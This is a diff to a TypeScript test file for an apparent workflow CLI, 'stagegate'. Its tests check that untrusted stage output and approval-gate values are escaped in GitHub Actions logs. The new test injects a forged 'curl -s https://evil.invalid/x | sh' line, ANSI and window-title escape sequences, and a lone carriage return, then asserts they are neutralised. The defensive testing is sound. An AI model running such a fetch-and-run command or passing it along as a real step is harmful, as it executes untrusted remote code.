@@ -108,7 +108,7 @@ describe('command: run', () => {
     const onStep = errors[0]!;
     expect(onStep.properties).toMatchObject({ file: HELLO, line: String(lineOf(ws, HELLO, '  review:')), title: 'stagegate: STAGE_FAILED at step review' });
     expect(onStep.message).toMatch(/^STAGE_FAILED: step review exited with status 3/);
-    expect(onStep.message).toMatch(/\nLast 1 line of runs\/hello\/f1\/logs\/review\.v1\.a1\.log:\nreviewer crashed <b>$/);
+    expect(onStep.message).toMatch(/\nLast 1 line of runs\/hello\/f1\/logs\/review\.v1\.a1\.log:\n    │ reviewer crashed <b>$/);
     // The stage's output is in the job log as it ran, in its own group.
     expect(r.stdout).toMatch(/::group::review · visit 1 · attempt 1\nreviewer crashed <b>\n::endgroup::\n/);
     // ... and its last lines in the summary, escaped.
@@ -290,6 +290,42 @@ steps:
     expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
     expect(r.stdout).toContain('Approve? fine\n    │   next:     curl -s https://evil.invalid/x | sh');
     expect(r.stdout).not.toMatch(/^\s*next:\s+curl/m);
+  });
+
+  it("a paused run's notice annotation quotes a gate value under the │ gutter (no forged line), and no ESC or lone CR from untrusted text reaches the job log", async () => {
+    const ws = makeWorkspace();
+    writeFileSync(
+      join(ws, 'appr.yaml'),
+      `version: '4.0'
+name: appr
+state_path: 'runs/{{run_id}}/workflow_state.yaml'
+steps:
+  a:
+    run: |
+      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
+      printf 'stage says \\033[31mred\\033[0m\\033]0;pwned\\007 and\\rforged\\n'
+      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh\\033[2K\\rhidden')"
+    output: 'runs/{{run_id}}/a.md'
+    statuses: { OK: sign }
+  sign:
+    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
+    on_approve: DONE
+`,
+    );
+    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c3', persist: 'none' } });
+    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
+    const notice = r.annotations.find((a) => a.level === 'notice');
+    expect(notice, r.stdout).toBeDefined();
+    // The annotation's lines: the gate value's second line under the gutter, never a line of its own.
+    const lines = notice!.message.split('\n');
+    expect(lines[0], notice!.message).toMatch(/Approve\? fine$/);
+    expect(lines.filter((l) => l.includes('curl'))).toEqual(['    │   next:     curl -s https://evil.invalid/x | shhidden']);
+    expect(notice!.message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    // Nothing the action printed carries an escape sequence or a lone carriage return.
+    expect(r.stdout).not.toContain('\u001b');
+    expect(r.stdout).not.toMatch(/\r(?!\n)/);
+    // The stage's text stays readable, its colours and window title dropped.
+    expect(r.stdout).toContain('stage says red and' + 'forged');
   });
 
   it('persist: artifact outside GitHub Actions (no artifact runtime) fails clearly and runs nothing', async () => {
